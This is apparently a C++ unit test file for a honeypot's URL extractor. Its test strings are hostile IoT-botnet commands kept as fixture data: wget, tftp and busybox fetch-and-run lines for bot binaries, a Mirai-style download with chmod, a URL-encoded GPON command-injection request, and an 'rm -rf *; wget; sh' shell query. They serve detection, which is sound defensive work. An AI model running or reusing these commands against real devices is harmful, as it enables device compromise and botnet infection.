#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "honeypot/http/http_parser.h"
#include "honeypot/http/url_extractor.h"

namespace kansoku::honeypot::http {
namespace {

std::vector<ExtractedUrl> fromText(std::string_view text, UrlExtractionLimits limits = {}) {
    std::vector<ExtractedUrl> out;
    extractUrlsFromText(text, limits, out);
    return out;
}

HttpRequestRecord parseOne(const std::string& text) {
    HttpRequestParser parser;
    std::vector<HttpRequestRecord> out;
    parser.feed({reinterpret_cast<const uint8_t*>(text.data()), text.size()}, out);
    parser.finish(out);
    return out.empty() ? HttpRequestRecord{} : out[0];
}

bool has(const std::vector<ExtractedUrl>& urls, const std::string& url, const std::string& tool) {
    for (const auto& u : urls) {
        if (u.url == url && u.tool == tool) {
            return true;
        }
    }
    return false;
}

TEST(UrlExtractor, SchemeUrlsAndTools) {
    auto urls = fromText("cd /tmp; wget http://198.51.100.9/a.sh -O a; curl -O https://198.51.100.9/b; "
                         "echo ftp://198.51.100.9/c tftp://198.51.100.9/d");
    EXPECT_TRUE(has(urls, "http://198.51.100.9/a.sh", "wget"));
    EXPECT_TRUE(has(urls, "https://198.51.100.9/b", "curl"));
    EXPECT_TRUE(has(urls, "ftp://198.51.100.9/c", "payload"));
    EXPECT_TRUE(has(urls, "tftp://198.51.100.9/d", "payload"));
    EXPECT_EQ(urls.size(), 4u);
}

TEST(UrlExtractor, SchemelessCommands) {
    auto urls = fromText("wget 198.51.100.9/x.arm7;tftp -g -r mips.bin 198.51.100.8;tftp 198.51.100.7 -c get t.sh;"
                         "ftpget -v 198.51.100.6 local.bin remote/bot.mips;/bin/busybox curl -O 198.51.100.5/c");
    EXPECT_TRUE(has(urls, "http://198.51.100.9/x.arm7", "wget"));
    EXPECT_TRUE(has(urls, "tftp://198.51.100.8/mips.bin", "tftp"));
    EXPECT_TRUE(has(urls, "tftp://198.51.100.7/t.sh", "tftp"));
    EXPECT_TRUE(has(urls, "ftp://198.51.100.6/remote/bot.mips", "ftpget"));
    EXPECT_TRUE(has(urls, "http://198.51.100.5/c", "curl"));
    EXPECT_EQ(urls.size(), 5u);
}

TEST(UrlExtractor, MiraiWgetWithTftpOptions) {
    auto urls = fromText("$(/bin/busybox wget -g 198.51.100.9 -l /tmp/mips -r /okiru.mips;chmod 777 /tmp/mips)");
    EXPECT_TRUE(has(urls, "tftp://198.51.100.9/okiru.mips", "tftp")) << (urls.empty() ? "" : urls[0].url);
}

TEST(UrlExtractor, EncodedPayloadsInARequest) {
    std::string body = "dest_host=%60busybox+wget+http%3A%2F%2F198.51.100.9%2Fgpon+-O+-%3E+%2Ftmp%2Fg%60&amp;x=&#104;"
                       "ttp://h.example/e";
    auto request =
        parseOne("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: a\r\nReferer: http%3A%2F%2F198.51.100.1%2Fref\r\n"
                 "Content-Length: " +
                 std::to_string(body.size()) + "\r\n\r\n" + body);
    ASSERT_EQ(request.body, body);
    auto urls = extractUrls(request);
    EXPECT_TRUE(has(urls, "http://198.51.100.9/gpon", "wget"));
    EXPECT_TRUE(has(urls, "http://198.51.100.1/ref", "payload"));
    EXPECT_TRUE(has(urls, "http://h.example/e", "payload"));
}

TEST(UrlExtractor, QueryWithPlusAsSpace) {
    auto request =
        parseOne("GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: a\r\n\r\n");
    auto urls = extractUrls(request);
    ASSERT_EQ(urls.size(), 1u);
    EXPECT_EQ(urls[0].url, "http://198.51.100.9/jaws");
    EXPECT_EQ(urls[0].tool, "wget");
}

TEST(UrlExtractor, NothingInOrdinaryText) {
    EXPECT_TRUE(fromText("GET /index.html wget -O /tmp/x and curl /api/v1 then tftp").empty());
}

TEST(UrlExtractor, BoundedCountAndLength) {
    std::string text;
    for (int i = 0; i < 100; ++i) {
        text += "http://198.51.100.9/" + std::to_string(i) + " ";
    }
    UrlExtractionLimits limits;
    limits.max_urls = 5;
    EXPECT_EQ(fromText(text, limits).size(), 5u);
    limits.max_url_bytes = 30;
    EXPECT_TRUE(fromText("http://198.51.100.9/" + std::string(100, 'a'), limits).empty());
    EXPECT_EQ(fromText("http://a.b/x http://a.b/x http://a.b/x").size(), 1u);
}

} // namespace
} // namespace kansoku::honeypot::http
